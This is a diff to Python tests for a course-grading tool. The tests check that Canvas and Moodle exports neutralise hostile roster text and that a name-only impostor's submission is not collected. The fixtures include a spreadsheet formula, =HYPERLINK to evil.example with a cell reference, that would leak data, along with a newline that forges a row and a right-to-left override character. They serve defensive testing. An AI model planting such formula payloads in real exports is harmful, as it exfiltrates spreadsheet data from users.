@@ -166,9 +166,9 @@ def test_lms_exports_neutralise_roster_text(hostile_class, tmp_path):
     assert_no_formula(moodle, "moodle.csv")
     assert len(canvas) == 4 and len(moodle) == 3  # the CR LF in a name forged no row
     assert canvas[1][-1] == "10" and canvas[2][-1] == "10" and canvas[3][-1] == "10"
-    assert canvas[0][-1] == "'=Masks (42)" and moodle[0][-1] == "'@Masks"
+    assert canvas[0][-1] == "'=Masks (42)" and moodle[0][-1] == "Assignment: @Masks (Real)"  # Moodle's own form
     assert canvas[2][:5] == ["'=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")", "101", "'@S1", "'-login", "'+A"]
-    assert moodle[1][:3] == ["'-2+3@example.org", "'-5", "'=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")"]
+    assert moodle[1][:2] == ["'-2+3@example.org", "'=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")"]
     assert canvas[3][0] == "Ada\\u202eecalevoL\\r\\nforged,row"
 
 
@@ -349,17 +349,27 @@ def test_moodle_names_that_download_alike_both_kept_without_a_roster(tmp_path):
 
 
 def test_a_name_match_never_beats_an_lms_id_match(tmp_path):
-    """With a roster, the attacker (Moodle id 1200, not in the roster) matches ada only by name; ada's own
-    submission matches her moodle_id: hers is collected, the attacker's reported."""
+    """With a roster, the attacker (participant 1200) matches ada only by name; ada's own submission (participant
+    5551) is the one Moodle's grading worksheet vouches for (its e-mail is hers): hers is collected, the
+    attacker's reported. (A Moodle download's number is a per-assignment participant id; only the worksheet
+    ties it to a user.)"""
+    from judge.grading.collect import CollectOptions
+
     dl = moodle_download(tmp_path / "m", [("Ada Lovelace", "1200", "# attacker\n"),
                                           ("Ada Lovelace", "5551", "# victim\n"),
                                           ("Alan Turing", "5552", "# alan\n")])
-    report = collect(dl, tmp_path / "subs", PROBLEMS, roster=[dict(r) for r in ROSTER])
+    sheet = tmp_path / "worksheet.csv"
+    sheet.write_text("Identifier,Full name,Email address,Last modified (submission)\n"
+                     "Participant 1200,Ada Lovelace,mallory@example.org,-\n"
+                     "Participant 5551,Ada Lovelace,ada@example.org,-\n"
+                     "Participant 5552,Alan Turing,alan@example.org,-\n")
+    report = collect(dl, tmp_path / "subs", PROBLEMS, roster=[dict(r) for r in ROSTER],
+                     options=CollectOptions(worksheet=sheet, timezone="UTC"))
     assert collected(tmp_path / "subs") == {"ada/causal_mask.py": "# victim\n", "alan/causal_mask.py": "# alan\n"}
     umask = os.umask(0o22)
     os.umask(umask)
     assert (tmp_path / "subs").stat().st_mode & 0o777 == 0o777 & ~umask  # built aside, but made as mkdir makes it
-    assert [u["submission"] for u in report.unmatched_students] == ["Ada Lovelace (Moodle 1200)"]
+    assert [u["submission"] for u in report.unmatched_students] == ["Ada Lovelace (Moodle participant 1200)"]
     assert "only by name" in report.unmatched_students[0]["why"]
 
 
